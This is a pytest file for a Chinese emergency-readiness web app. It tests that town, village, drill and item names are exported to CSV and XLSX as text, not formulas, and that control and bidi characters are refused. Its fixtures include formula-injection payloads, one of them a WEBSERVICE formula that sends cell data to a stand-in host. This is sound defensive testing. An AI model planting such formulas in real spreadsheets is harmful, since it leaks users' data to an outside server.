"""Safe cells (issue 13): what a user typed comes back as text in every CSV and XLSX, never as a
formula; characters no record may hold are refused at input and stripped on export."""

import csv
import io
import json
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from drills.models import Drill
from inventory.models import Item
from readiness.cells import csv_cell, csv_text, xlsx_value
from readiness.exports import csv_response, xlsx_response
from readiness.permissions import SYSTEM
from shelters import places
from shelters import places_import as pi
from shelters.models import Village
from tests.conftest import BACKEND, post_form

FORMULAS = [
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _csv_rows(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.get_data()))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), "a cell of the download is a formula"
    return cells


def _assert_text_everywhere(csv_response_, xlsx_response_, values):
    """Each value is one CSV cell after a ' and one XLSX string cell, as typed."""
    assert csv_response_.status_code == 200
    assert xlsx_response_.status_code == 200
    csv_cells = {cell for row in _csv_rows(csv_response_) for cell in row}
    xlsx_cells = _xlsx_cells(xlsx_response_)
    for value in values:
        assert "'" + value in csv_cells, value
        matching = [c for c in xlsx_cells if c.value == value]
        assert matching and all(c.data_type == "s" for c in matching), value


# ---------------------------------------------------------------- the cell rules, no database


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_is_written_as_text(text):
    assert csv_cell(text) == "'" + text
    assert xlsx_value(text) == text


@pytest.mark.parametrize(
    "value",
    [0, 7, -5, 2.5, -0.25, Decimal("-12.50"), True],
)
def test_numbers_stay_numbers_even_negative(value):
    assert csv_cell(value) == value
    assert xlsx_value(value) == value


@pytest.mark.parametrize("text", ["-5", "+3.5", "-12%", "救生衣", "a=b", "1-2", "'already"])
def test_plain_text_and_signed_figures_are_left_alone(text):
    assert csv_cell(text) == text


def test_none_is_empty_and_dates_stay_dates():
    assert csv_cell(None) == "" and xlsx_value(None) is None
    assert str(csv_cell(date(2024, 7, 20))) == "2024-07-20"
    assert xlsx_value(date(2024, 7, 20)) == date(2024, 7, 20)
    from datetime import UTC

    aware = datetime(2024, 7, 20, 8, 30, tzinfo=UTC)
    assert xlsx_value(aware) == datetime(2024, 7, 20, 8, 30)


def test_characters_no_record_may_hold_are_stripped_from_every_cell():
    assert csv_cell("大冶\x00派出所\u202e") == "大冶派出所"
    assert csv_cell("=\x00cmd") == "'=cmd"
    assert xlsx_value("lone \ud800 surrogate\x07") == "lone  surrogate"


def test_csv_text_for_files_written_outside_a_response():
    text = csv_text(["名称", "数量"], [["=1+1", -3], [None, Decimal("2.5")]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["名称", "数量"],
        ["'=1+1", "-3"],
        ["", "2.5"],
    ]


def test_the_village_import_sample_goes_through_the_safe_writer():
    data = pi.template_csv()
    assert data.startswith("\ufeff".encode())
    assert pi.parse("sample.csv", data).errors == []


def test_the_download_writers_stream_typed_safe_cells(app):
    header = ["名称", "数量", "日期"]
    rows = [['=HYPERLINK("x")', -4, date(2024, 1, 2)], ["\x00ok", Decimal("1.5"), None]]
    with app.test_request_context("/"):
        as_csv = csv_response("t", header, iter(rows))
        as_xlsx = xlsx_response("t", header, iter(rows))
    assert as_csv.is_streamed and as_xlsx.is_streamed
    assert as_csv.headers["Content-Disposition"] == "attachment; filename=t.csv"
    assert as_xlsx.headers["Content-Disposition"] == "attachment; filename=t.xlsx"
    assert _csv_rows(as_csv)[1:] == [['\'=HYPERLINK("x")', "-4", "2024-01-02"], ["ok", "1.5", ""]]
    book = load_workbook(io.BytesIO(as_xlsx.get_data()))
    (sheet,) = book.worksheets
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [['=HYPERLINK("x")', -4, datetime(2024, 1, 2)], ["ok", 1.5, None]]
    assert sheet["A2"].data_type == "s" and sheet["B2"].data_type == "n"
    assert sheet["C2"].is_date
    assert int(as_xlsx.headers["Content-Length"]) == len(as_xlsx.get_data())


def test_a_failing_row_is_an_error_before_any_xlsx_byte_is_sent(app):
    def rows():
        yield ["一"]
        raise RuntimeError("query failed")

    with app.test_request_context("/"), pytest.raises(RuntimeError):
        xlsx_response("t", ["名称"], rows())


def test_a_big_csv_streams_in_chunks_and_reads_lazily(app):
    produced = []

    def rows():
        for n in range(20_000):
            produced.append(n)
            yield [n, f"物资{n}"]

    with app.test_request_context("/"):
        response = csv_response("big", ["编号", "名称"], rows())
    assert len(produced) < 20_000  # not built whole before the response starts
    chunks = list(response.response)
    assert len(chunks) > 2
    assert len(list(csv.reader(io.StringIO("".join(chunks)[1:])))) == 20_001


# ---------------------------------------------------------------- what users typed, end to end


@pytest.fixture
def county(session, make_unit, make_user):
    wl = make_unit("WL", name="温岭市应急管理局", kind="bureau")
    places.save_town(
        session,
        code="CB",
        name=FORMULAS[0],
        parent=wl,
        villages=[places.VillageInput(text.strip() or text, 100, 10) for text in FORMULAS[:4]],
        actor=SYSTEM,
    )
    session.commit()
    make_user("cmd1", "command", wl)
    return wl


def test_a_formula_typed_as_a_town_or_village_comes_back_as_text(client, login, county):
    login("cmd1")
    as_csv = client.get("/shelters/?format=csv")
    as_xlsx = client.get("/shelters/?format=xlsx")
    # the town's name is a cell of its own; the uncovered villages are listed in one cell
    _assert_text_everywhere(as_csv, as_xlsx, [FORMULAS[0]])
    uncovered = [row[-1] for row in _csv_rows(as_csv)[1:-1]]
    assert uncovered and all(cell.startswith("'") for cell in uncovered)
    # numbers in the same report stay numbers
    numbers = [c for c in _xlsx_cells(as_xlsx) if c.row == 2 and c.column == 3]
    assert numbers[0].value == 4 and numbers[0].data_type == "n"


def test_a_formula_typed_as_a_drill_title_comes_back_as_text(make_unit, make_user, login):
    daye = make_unit("DAYE", name="大冶派出所")
    make_user("clerk1", "clerk", daye)
    client = login("clerk1")
    for title in FORMULAS[:4]:
        r = post_form(
            client,
            "/drills/new",
            {"title": title, "kind": "tabletop", "held_on": "2022-08-10", "lead_unit": "DAYE"},
        )
        assert r.status_code == 302, r.get_data(as_text=True)[:300]
    _assert_text_everywhere(
        client.get("/drills?format=csv"), client.get("/drills?format=xlsx"), FORMULAS[:4]
    )


def test_a_formula_typed_as_an_item_name_comes_back_as_text(
    client, login, make_unit, make_user, make_item, stock
):
    daye = make_unit("DAYE", name="大冶派出所")
    make_user("cmd1", "command", None)
    names = FORMULAS[:4]
    for n, name in enumerate(names):
        item = make_item(f"X{n}", name=name)
        stock(daye, item, 5, lot_code=f"L{n}", expires_on=date.today() + timedelta(days=10))
    login("cmd1")
    as_csv = client.get("/reports/expiry?format=csv")
    as_xlsx = client.get("/reports/expiry?format=xlsx")
    _assert_text_everywhere(as_csv, as_xlsx, names)
    quantities = [row[-1] for row in _csv_rows(as_csv)[1:]]
    assert quantities == ["5"] * 4
    qty_cells = [c for c in _xlsx_cells(as_xlsx) if c.column == 6 and c.row > 1]
    assert [c.value for c in qty_cells] == [5] * 4 and {c.data_type for c in qty_cells} == {"n"}


STORED = ["\x07", "\u202e"] + (["\x00"] if BACKEND == "sqlite" else [])  # PostgreSQL refuses NUL


@pytest.mark.parametrize("char", STORED)
def test_a_record_stored_before_the_rule_exports_without_the_character(
    client, login, session, county, char
):
    # Written past the ORM, as rows written before the rule were.
    session.execute(update(Village).where(Village.name == "+1+1").values(name=f"老{char}村"))
    session.commit()
    login("cmd1")
    as_csv = client.get("/shelters/?format=csv")
    as_xlsx = client.get("/shelters/?format=xlsx")
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    assert char not in as_csv.get_data(as_text=True)
    assert "老村" in as_csv.get_data(as_text=True)
    assert any("老村" in str(c.value) for c in _xlsx_cells(as_xlsx))


# ---------------------------------------------------------------- refused at input

REFUSED = {"\x00": "U+0000", "\u202e": "U+202E", "\x1b": "U+001B"}


@pytest.mark.parametrize("char", REFUSED)
def test_a_page_form_refuses_the_character_naming_the_field(
    client, login, session, make_user, char
):
    make_user("root", "admin", None)
    login("root")
    typed = f"救生衣{char}甲"
    r = post_form(
        client,
        "/items/new",
        {
            "code": "LJ",
            "name": typed,
            "category": "防汛",
            "uom": "件",
            "unit_cost": "120",
            "tracking": "bulk",
        },
    )
    page = r.get_data(as_text=True)
    assert r.status_code == 200
    assert f"名称 含有不允许的字符 {REFUSED[char]}" in page
    assert 'value="救生衣' in page  # the form keeps what was typed
    assert session.scalar(select(func.count()).select_from(Item)) == 0


def test_a_raw_page_form_refuses_it_and_keeps_the_typed_values(
    make_unit, make_user, login, session
):
    daye = make_unit("DAYE", name="大冶派出所")
    make_user("clerk1", "clerk", daye)
    client = login("clerk1")
    r = post_form(
        client,
        "/drills/new",
        {"title": "防汛\x00演练", "kind": "tabletop", "held_on": "2022-08-10", "lead_unit": "DAYE"},
    )
    page = r.get_data(as_text=True)
    assert r.status_code == 200 and "标题 含有不允许的字符 U+0000" in page and "防汛" in page
    assert session.scalar(select(func.count()).select_from(Drill)) == 0


@pytest.mark.parametrize(
    "body, field",
    [
        ('{"code": "LJ", "name": "\\ud800", "category": "c", "uom": "u", "unit_cost": 1}', "name"),
        ('{"code": "LJ", "name": "a\\u0000", "category": "c", "uom": "u", "unit_cost": 1}', "name"),
        (
            '{"code": "LJ", "name": "a", "category": "\\u202e", "uom": "u", "unit_cost": 1}',
            "category",
        ),
    ],
)
def test_the_api_answers_422_naming_the_field(api, make_user, make_token, session, body, field):
    token = make_token(make_user("root", "admin", None))
    r = api(token).post("/api/v1/items", data=body, content_type="application/json")
    assert r.status_code == 422, r.get_data(as_text=True)
    error = r.get_json()["error"]
    assert error["field"] == field and error["code"] == "validation_error"
    assert session.scalar(select(func.count()).select_from(Item)) == 0


def test_the_api_names_a_field_deep_in_the_body(api, make_unit, make_user, make_token, session):
    wl = make_unit("WL", kind="bureau")
    token = make_token(make_user("cmd1", "command", wl))
    body = {
        "code": "XQ",
        "name": "新桥镇",
        "parent": "WL",
        "villages": [
            {"name": "新桥村", "population": 10, "to_relocate": 1},
            {"name": "文昌\u202e社区", "population": 10, "to_relocate": 1},
        ],
    }
    before = session.scalar(select(func.count()).select_from(Village))
    r = api(token).post("/api/v1/towns", data=json.dumps(body), content_type="application/json")
    assert r.status_code == 422
    assert r.get_json()["error"]["field"] == "villages[1].name"
    assert "U+202E" in r.get_json()["error"]["message"]
    assert session.scalar(select(func.count()).select_from(Village)) == before


def test_a_lone_surrogate_in_any_write_endpoint_is_422_not_500(
    api, make_unit, make_user, make_token, session
):
    daye = make_unit("DAYE", kind="station")
    token = make_token(make_user("clerk1", "clerk", daye))
    body = '{"title": "\\ud800", "kind": "tabletop", "held_on": "2022-08-10", "lead_unit": "DAYE"}'
    r = api(token).post("/api/v1/drills", data=body, content_type="application/json")
    assert r.status_code == 422 and r.get_json()["error"]["field"] == "title"
    assert session.scalar(select(func.count()).select_from(Drill)) == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_import_names_the_row_and_column(fmt):
    rows = [
        ["镇街代码", "镇街名称", "村社名称", "类型", "人口", "需转移人口"],
        ["XQ", "新桥镇", "新桥村", "村", "10", "1"],
        ["XQ", "新桥镇", "文昌\u202e社区", "社区", "10", "1"],
    ]
    if fmt == "csv":
        rows[1][2] = "新\x00桥村"
        out = io.StringIO()
        csv.writer(out).writerows(rows)  # not the safe writer: it would strip the NUL
        data = out.getvalue().encode("utf-8")
    else:
        from openpyxl import Workbook

        book = Workbook()
        for row in rows:
            book.active.append(row)
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
    preview = pi.parse(f"villages.{fmt}", data)
    assert 3 in preview.bad_lines and all(r.line != 3 for r in preview.rows)
    assert any("第 3 行，村社名称" in e and "U+202E" in e for e in preview.errors)
    if fmt == "csv":
        assert not preview.rows
        assert any("第 2 行，村社名称" in e and "U+0000" in e for e in preview.errors)


def test_an_import_upload_with_a_bad_character_changes_nothing(client, login, session, county):
    login("cmd1")
    before = session.scalar(select(func.count()).select_from(Village))
    data = "镇街代码,镇街名称,村社名称,类型,人口,需转移人口\nXQ,新桥镇,新\x00桥村,村,10,1\n"
    r = post_form(
        client,
        "/shelters/import",
        {"file": (io.BytesIO(data.encode("utf-8")), "villages.csv")},
        content_type="multipart/form-data",
    )
    assert r.status_code in (200, 422)
    assert "第 2 行" in r.get_data(as_text=True)
    assert session.scalar(select(func.count()).select_from(Village)) == before


@pytest.mark.parametrize(
    "path",
    ["/audit?actor=%00", "/ledger?unit=%00", "/drills?q=%00", "/reports/expiry?unit=%E2%80%AE"],
)
def test_a_bad_character_in_the_query_string_is_refused_not_a_500(client, login, make_user, path):
    make_user("insp1", "inspector", None)
    login("insp1")
    r = client.get(path)
    assert r.status_code == 422
    assert "含有不允许的字符" in r.get_data(as_text=True)


def test_a_bad_character_in_an_api_query_string_is_a_422_naming_it(api, make_user, make_token):
    token = make_token(make_user("insp1", "inspector", None))
    r = api(token).get("/api/v1/reports/expiry?unit=%00")
    assert r.status_code == 422 and r.get_json()["error"]["field"] == "unit"


def test_a_service_write_holding_a_bad_character_is_refused_and_nothing_stored(session):
    from readiness.errors import DomainError

    with pytest.raises(DomainError) as refused:
        places.save_town(
            session,
            code="XQ",
            name="新桥镇",
            villages=[places.VillageInput("文昌\u202e社区", 10, 1)],
            actor=SYSTEM,
        )
    assert "U+202E" in refused.value.message
    session.rollback()
    assert session.scalar(select(func.count()).select_from(Village)) == 0


@pytest.mark.skipif(BACKEND != "postgresql", reason="only PostgreSQL refuses NUL in a query")
def test_a_nul_reaching_a_postgresql_query_is_a_domain_error_not_a_500(session):
    from readiness.errors import DomainError
    from readiness.models import Unit

    with pytest.raises(DomainError, match="U\\+0000"):
        session.scalars(select(Unit).where(Unit.code == "a\x00b")).all()
    session.rollback()


def test_a_record_stored_before_the_rule_can_still_be_corrected(session, county):
    village = session.scalar(select(Village).where(Village.name == "+1+1"))
    session.execute(update(Village).where(Village.id == village.id).values(name="老\u202e村"))
    session.commit()
    session.expire_all()
    # the audit entry quotes the old name; the correction itself is clean, so it goes through
    places.update_village(
        session,
        session.get(Village, village.id),
        name="老村",
        kind="village",
        population=100,
        to_relocate=10,
        actor=SYSTEM,
    )
    session.commit()
    assert session.get(Village, village.id).name == "老村"
